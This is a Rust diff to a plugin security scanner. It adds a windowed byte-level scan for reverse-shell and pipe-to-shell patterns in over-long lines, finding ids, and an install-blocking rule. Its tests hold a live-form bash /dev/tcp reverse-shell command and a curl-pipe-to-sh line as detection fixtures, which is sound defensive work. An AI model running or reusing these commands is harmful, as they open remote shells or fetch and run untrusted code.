@@ -89,6 +89,21 @@ pub struct SecurityFinding {
     pub snippet: String,
 }
 
+impl SecurityFinding {
+    /// The finding's stable id, `<rule>@<file>:<line>` (`pipe-to-shell@setup.sh:12`): what
+    /// `install --accept-finding` names to accept it for one plugin.
+    pub fn id(&self) -> String {
+        format!("{}@{}:{}", self.rule, self.file, self.pos.line)
+    }
+
+    /// Whether `install`/`update` need an explicit acceptance of it: it makes the verdict
+    /// `dangerous`, or it is code the analysis could not read (a module too large or beyond
+    /// the file cap, a file the walk could not examine) — not known to be safe either.
+    pub fn blocks(&self) -> bool {
+        self.level >= Level::High || matches!(self.rule, "unanalysed-source" | "unexamined")
+    }
+}
+
 /// Limits for the oversized-tree finding.
 pub const MAX_FILES: usize = 400;
 /// Total size limit (10 MB).
@@ -257,7 +272,31 @@ fn check_text(
     out: &mut Vec<SecurityFinding>,
     make: impl Fn(Level, &'static str, String) -> SecurityFinding,
 ) {
-    if let Some(m) = REVERSE_SHELL.find(text) {
+    check_text_from(text, 0, out, make);
+}
+
+/// The rules of the byte-level patterns that match somewhere in `text` (both of them, where
+/// [`check_text`] reports the worse one): the reference the windowed scan is fuzzed against.
+pub fn rules_matching(text: &str) -> Vec<&'static str> {
+    let mut rules = Vec::new();
+    if REVERSE_SHELL.is_match(text) {
+        rules.push("reverse-shell");
+    }
+    if PIPE_TO_SHELL.is_match(text) {
+        rules.push("pipe-to-shell");
+    }
+    rules
+}
+
+/// [`check_text`] for matches starting at byte `start` or later, `text[..start]` being only
+/// context (what precedes a word decides a `\b`).
+fn check_text_from(
+    text: &str,
+    start: usize,
+    out: &mut Vec<SecurityFinding>,
+    make: impl Fn(Level, &'static str, String) -> SecurityFinding,
+) {
+    if let Some(m) = REVERSE_SHELL.find_at(text, start) {
         out.push(make(
             Level::Critical,
             "reverse-shell",
@@ -266,7 +305,7 @@ fn check_text(
                 crate::located::truncate_chars(m.as_str(), 60)
             ),
         ));
-    } else if let Some(m) = PIPE_TO_SHELL.find(text) {
+    } else if let Some(m) = PIPE_TO_SHELL.find_at(text, start) {
         out.push(make(
             Level::High,
             "pipe-to-shell",
@@ -503,6 +542,34 @@ const OVERLAP: usize = 16 << 10;
 /// (`#`, not `#!`) are hints shown to people, not code, and are skipped. Stops after 200
 /// findings in one file.
 fn scan_bytes(file: impl Read, rel: &str, out: &mut Vec<SecurityFinding>) {
+    scan_windowed(file, rel, WINDOW, OVERLAP, out);
+}
+
+/// The byte-level patterns over one file, seen in windows of `window` bytes overlapping by
+/// `overlap` (`0 < overlap < window`): what `validate` runs with 1 MiB and 16 KiB, public for
+/// the fuzz target that compares small windows with whole lines.
+pub fn byte_patterns(
+    file: impl Read,
+    rel: &str,
+    window: usize,
+    overlap: usize,
+) -> Vec<SecurityFinding> {
+    assert!(
+        0 < overlap && overlap < window,
+        "overlap must be inside the window"
+    );
+    let mut out = Vec::new();
+    scan_windowed(file, rel, window, overlap, &mut out);
+    out
+}
+
+fn scan_windowed(
+    file: impl Read,
+    rel: &str,
+    window_size: usize,
+    overlap: usize,
+    out: &mut Vec<SecurityFinding>,
+) {
     let mut reader = std::io::BufReader::with_capacity(64 << 10, file);
     let mut window = Vec::new();
     let mut number: u32 = 0;
@@ -510,12 +577,19 @@ fn scan_bytes(file: impl Read, rel: &str, out: &mut Vec<SecurityFinding>) {
     loop {
         number = number.saturating_add(1);
         window.clear();
+        let line_start = out.len();
         let mut first = true;
         let mut comment = false;
         loop {
-            // At most WINDOW bytes at a time; an over-long line continues in further windows
-            // that keep the last OVERLAP bytes of the one before.
-            let room = if first { WINDOW } else { WINDOW - OVERLAP };
+            // At most `window_size` bytes at a time; an over-long line continues in windows
+            // that keep the last `overlap` bytes of the one before. Their first character is
+            // context only (it decides a `\b`); a match starting there, or one already
+            // reported for this line, is not reported again.
+            let room = if first {
+                window_size
+            } else {
+                window_size - overlap
+            };
             let read = match std::io::BufRead::read_until(
                 &mut (&mut reader).take(room as u64),
                 b'\n',
@@ -527,30 +601,43 @@ fn scan_bytes(file: impl Read, rel: &str, out: &mut Vec<SecurityFinding>) {
             if read == 0 && first {
                 return; // end of file
             }
-            if first {
-                let head = String::from_utf8_lossy(&window[..window.len().min(64)]);
-                let trimmed = head.trim_start();
-                comment = trimmed.starts_with('#') && !trimmed.starts_with("#!");
-                first = false;
-            }
             if !comment {
                 let text = String::from_utf8_lossy(&window);
-                let before = out.len();
-                check_text(&text, out, |level, rule, message| SecurityFinding {
-                    level,
-                    rule,
-                    message,
-                    file: rel.to_string(),
-                    pos: Pos::new(number, 1),
-                    snippet: snippet_of(&text),
-                });
-                found += out.len() - before;
+                if first {
+                    let trimmed = text.trim_start();
+                    comment = trimmed.starts_with('#') && !trimmed.starts_with("#!");
+                }
+                if !comment {
+                    let from = if first {
+                        0
+                    } else {
+                        text.chars().next().map_or(0, char::len_utf8)
+                    };
+                    let mut here = Vec::new();
+                    check_text_from(&text, from, &mut here, |level, rule, message| {
+                        SecurityFinding {
+                            level,
+                            rule,
+                            message,
+                            file: rel.to_string(),
+                            pos: Pos::new(number, 1),
+                            snippet: snippet_of(&text),
+                        }
+                    });
+                    for finding in here {
+                        if !out[line_start..].iter().any(|f| f.rule == finding.rule) {
+                            out.push(finding);
+                            found += 1;
+                        }
+                    }
+                }
             }
+            first = false;
             let ended = window.last() == Some(&b'\n') || read < room;
             if ended || found > 200 {
                 break;
             }
-            window.drain(..window.len() - OVERLAP);
+            window.drain(..window.len() - overlap);
         }
         if found > 200 {
             return;
@@ -715,5 +802,38 @@ mod blob_tests {
         for s in &samples {
             assert_eq!(is_base64_blob(s), pattern.is_match(s), "{:?}", &s[..20]);
         }
+    }
+}
+
+#[cfg(test)]
+mod byte_tests {
+    use super::*;
+
+    fn rules(found: &[SecurityFinding]) -> Vec<(u32, &'static str)> {
+        found.iter().map(|f| (f.pos.line, f.rule)).collect()
+    }
+
+    #[test]
+    fn every_byte_is_seen_in_bounded_windows() {
+        let payload = "os.system(\"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\")";
+        // A padding line longer than the windows, then the payload at the end of it.
+        let long = format!("x = 1; {} ; {payload}\n", "y".repeat(3000));
+        let found = byte_patterns(long.as_bytes(), "f.py", 256, 96);
+        assert_eq!(rules(&found), [(1, "reverse-shell")]);
+        // Comment lines are text for people; the code line after them is not.
+        let text = format!("# {payload}\n{}\n{payload}\n", "#".repeat(5000));
+        let found = byte_patterns(text.as_bytes(), "f.py", 256, 96);
+        assert_eq!(rules(&found), [(3, "reverse-shell")]);
+        // Once per rule and line, however many windows see it.
+        let repeated = format!("{}\n", [payload; 40].join(" "));
+        let found = byte_patterns(repeated.as_bytes(), "f.py", 128, 96);
+        assert_eq!(rules(&found), [(1, "reverse-shell")]);
+        // A cut inside a word does not make a word boundary: `xcurl` is not `curl`.
+        let glued = format!("{}xcurl https://e.invalid/i.sh | sh\n", "a".repeat(61));
+        for (window, overlap) in [(64, 24), (66, 24), (70, 24)] {
+            let found = byte_patterns(glued.as_bytes(), "f.sh", window, overlap);
+            assert!(found.is_empty(), "{window}: {:?}", rules(&found));
+        }
+        assert_eq!(rules_matching(&glued), Vec::<&str>::new());
     }
 }
